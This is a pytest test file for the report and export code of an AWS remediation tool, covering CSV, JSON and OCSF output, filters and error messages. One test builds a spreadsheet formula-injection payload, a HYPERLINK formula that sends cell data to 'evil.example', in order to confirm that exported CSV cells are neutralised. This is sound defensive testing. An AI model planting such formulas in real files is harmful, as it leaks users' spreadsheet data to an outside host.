import csv
import io
import json
import urllib.parse
from pathlib import Path
from typing import Any

import boto3
import pytest
from jsonschema import Draft202012Validator

from local import report
from local.export import COLUMNS, FORMATS, Manual, Place, as_csv, as_json, as_ocsf
from local.report import read_all
from snapback.engine.outcomes import TOLD, Outcome
from tests.engine.test_ocsf import CLASSES
from tests.local.test_report import NOW, TEMPLATE, row

PLACE = Place(
    "111122223333",
    "eu-central-1",
    {"revoke-open-ingress": Manual("Close it.", undoable=True, resource_type="AWS::EC2::SecurityGroup", problem="A port is open", severity="high")},
)


@pytest.fixture(autouse=True)
def settings(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("JOURNAL_DAYS", "365")


def table(*rows: dict[str, Any]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(as_csv(read_all(rows, NOW)[0], PLACE), newline="")))


def test_json_has_each_entry_with_what_an_alert_calls_the_same() -> None:
    [one] = json.loads(as_json(read_all([row(1, status="PARTIAL", left=[{"port": 22}])], NOW)[0], PLACE))
    assert one["outcome"] == "PARTIAL"
    assert one["needs_person"] is True
    assert one["resource"] == {
        "type": "AWS::EC2::SecurityGroup",
        "name": "sg-00000000000000001",
        "arn": "arn:aws:ec2:eu-central-1:111122223333:security-group/sg-00000000000000001",
    }
    assert (one["problem"], one["severity"], one["severity_score"]) == ("A port is open", "high", 70)
    assert one["trigger"]["at"] == "2026-11-24T03:09:00Z"
    assert urllib.parse.urlsplit(one["links"]["resource"]).hostname == "eu-central-1.console.aws.amazon.com"


def test_csv_has_a_line_for_each_entry_under_heads_that_are_members_of_the_json() -> None:
    [one, other] = table(row(1), row(2, actor={}, reason=""))
    assert tuple(one) == COLUMNS
    assert one["resource.name"] == "sg-00000000000000001"
    assert json.loads(one["before"]) == [{"CidrIpv4": "0.0.0.0/0", "FromPort": 22}]
    assert (other["actor"], other["reason"], other["preview"]) == ("", "", "false")


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", " =", "\t=", "\r=", "\n+", "\uff1d", "\uff20"])
def test_no_cell_of_the_csv_begins_a_formula(begin: str) -> None:
    evil = f'{begin}HYPERLINK("https://evil.example/"&A1,"look")'
    rows = table(row(1, resource=evil, reason=evil, source=evil, actor={"name": evil}, notes={"stack": evil}))
    cells = [value for one in rows for value in one.values() if "HYPERLINK" in value]
    assert len(cells) >= 5
    assert [cell for cell in cells if cell.strip()[0] in "=+-@\uff1d\uff0b\uff0d\uff20\t\r\n"] == []


def test_a_cell_with_quotes_commas_and_line_ends_is_one_cell() -> None:
    [one] = table(row(1, reason='a "b",\r\nc'))
    assert one["reason"] == 'a "b",\\r\\nc'


@pytest.mark.parametrize("form", FORMATS)
def test_what_may_be_a_secret_is_in_no_form(form: str) -> None:
    entries, _, _ = read_all([row(1, evidence=[{"Password": "hunter2"}], left=[{"Password": "hunter2"}], after={"Password": "hunter2"})], NOW)
    assert "hunter2" not in FORMATS[form](entries, PLACE)


@pytest.mark.parametrize("form", FORMATS)
def test_every_form_takes_an_empty_journal_and_a_remediation_that_is_no_more(form: str) -> None:
    entries, _, _ = read_all([row(1, remediation="of-old")], NOW)
    assert FORMATS[form]([], PLACE) in ("", "[]\n", ",".join(COLUMNS) + "\r\n")
    assert "of-old" in FORMATS[form](entries, PLACE)


def test_ocsf_has_an_event_a_line_for_each_outcome_that_people_hear_of() -> None:
    rows = [row(number, status=outcome.value) for number, outcome in enumerate(Outcome)]
    lines = [json.loads(line) for line in as_ocsf(read_all([*rows, row(99, status="CLAIMED")], NOW)[0], PLACE).splitlines()]
    assert {line["status_code"] for line in lines} == {outcome.value for outcome in TOLD}
    assert all(line["metadata"]["version"] and line["time"] == (NOW + 1) * 1000 for line in lines)
    assert len({line["metadata"]["uid"] for line in lines}) == len(lines)
    for line in lines:
        Draft202012Validator(CLASSES[line["class_uid"]]).validate(line)


@pytest.fixture
def stack() -> None:
    boto3.client("cloudformation").create_stack(StackName="snapback", TemplateBody=json.dumps(TEMPLATE))
    [table] = boto3.client("dynamodb").list_tables()["TableNames"]
    for one in (row(1, finished_at=NOW - 40 * 86_400), row(2), row(3, status="FAILED"), row(4, remediation="require-imdsv2", resource="i-04")):
        boto3.client("dynamodb").put_item(TableName=table, Item=one)


@pytest.mark.usefixtures("account", "stack")
@pytest.mark.parametrize(
    ("flags", "numbers"),
    [
        ((), {1, 2, 3, 4}),
        (("--days", "30"), {2, 3, 4}),
        (("--remediation", "require-imdsv2"), {4}),
        (("--outcome", "failed"), {3}),
        (("--days", "30", "--outcome", "FIXED"), {2, 4}),
    ],
)
@pytest.mark.parametrize("form", ["html", "csv", "json", "ocsf"])
def test_a_period_and_a_filter_hold_for_every_form(
    form: str, flags: tuple[str, ...], numbers: set[int], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("local.report.time.time", lambda: NOW + 60)
    out = tmp_path / "out"
    assert report.main(["snapback", str(out), "--format", form, *flags]) == 0
    written = out.read_text()
    if form == "html":
        assert "Needs a person" in written
        assert "snapback retry sb-0000000000000003" in written, "what waits does so whatever was asked for"
        assert ("Only " in written) is bool(flags)
        written = written.partition("One by one")[2]
    assert {number for number in range(1, 5) if f"sb-{number:016x}" in written} == numbers


WIKI = "https://wiki.example/runbook"


@pytest.mark.usefixtures("account")
def test_the_pages_links_into_the_runbook_lead_to_the_stacks_own_unless_another_is_named(tmp_path: Path) -> None:
    template = {**TEMPLATE, "Parameters": {"RunbookUrl": {"Type": "String"}}}
    boto3.client("cloudformation").create_stack(
        StackName="snapback", TemplateBody=json.dumps(template), Parameters=[{"ParameterKey": "RunbookUrl", "ParameterValue": WIKI}]
    )
    [table] = boto3.client("dynamodb").list_tables()["TableNames"]
    boto3.client("dynamodb").put_item(TableName=table, Item=row(1))
    out = tmp_path / "out"
    for flags, link in (((), f"{WIKI}#undo"), (("--runbook", "https://other.example/"), "https://other.example/#undo")):
        assert report.main(["snapback", str(out), *flags]) == 0
        assert f'href="{link}"' in out.read_text()


@pytest.mark.usefixtures("account", "stack")
def test_an_outcome_that_there_is_not_is_refused_with_the_nearest(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as refused:
        report.main(["snapback", "--outcome", "FIXD"])
    assert refused.value.code == 2
    assert "do you mean FIXED?" in capsys.readouterr().err


@pytest.mark.usefixtures("account")
def test_a_stack_that_is_not_there_is_said_in_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert report.main(["nosuch"]) == 1
    assert capsys.readouterr().err.startswith("The journal of nosuch cannot be read: ")


def test_what_waits_for_a_person_is_what_list_and_page_say_waits() -> None:
    rows = [row(1, is_of_threat=True), row(2, status="WOULD_FIX", preview=True) | {"applied": {"S": "sb-1"}}, row(3, status="FAILED") | {"retried": {"N": "1"}}]
    entries, _, _ = read_all([*rows, row(4), row(5, status="REPORTED")], NOW)
    assert {one["id"][-1]: one["needs_person"] for one in json.loads(as_json(entries, PLACE))} == {"1": True, "2": False, "3": False, "4": False, "5": True}


def test_a_threat_that_is_contained_is_not_resolved_in_ocsf() -> None:
    threat, other = (json.loads(line) for line in as_ocsf(read_all([row(1, is_of_threat=True), row(2)], NOW)[0], PLACE).splitlines())
    assert (threat["class_name"], threat["unmapped"]["threat"]) == ("Remediation Activity", True)
    assert (other["class_name"], other["status"], other["unmapped"]["threat"]) == ("Detection Finding", "Resolved", False)


@pytest.mark.usefixtures("account", "stack")
def test_a_selection_that_makes_no_sense_and_a_place_that_is_not_there_are_a_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for days in ("nan", "-3", "0", "soon"):
        with pytest.raises(SystemExit) as refused:
            report.main(["snapback", "--days", days])
        assert refused.value.code == 2
        assert f"days are a number such as 30, not {days}" in capsys.readouterr().err
    for out, flags, said in (("out", ["--remediation", "require-imdsv3"], "do you mean require-imdsv2"), ("none/out", [], "out cannot be written: No such")):
        assert report.main(["snapback", str(tmp_path / out), *flags]) == 2
        [line] = capsys.readouterr().err.splitlines()
        assert said in line
    assert list(tmp_path.iterdir()) == []


@pytest.mark.usefixtures("account", "stack")
def test_a_remediation_may_be_spelled_as_its_function_and_as_one_that_is_no_more(tmp_path: Path) -> None:
    [table] = boto3.client("dynamodb").list_tables()["TableNames"]
    boto3.client("dynamodb").put_item(TableName=table, Item=row(5, remediation="of-old"))
    for spelled, number in (("RequireImdsv2", 4), ("of-old", 5)):
        assert report.main(["snapback", str(tmp_path / "out"), "--format", "json", "--remediation", spelled]) == 0
        assert [one["id"] for one in json.loads((tmp_path / "out").read_text())] == [f"sb-{number:016x}"]
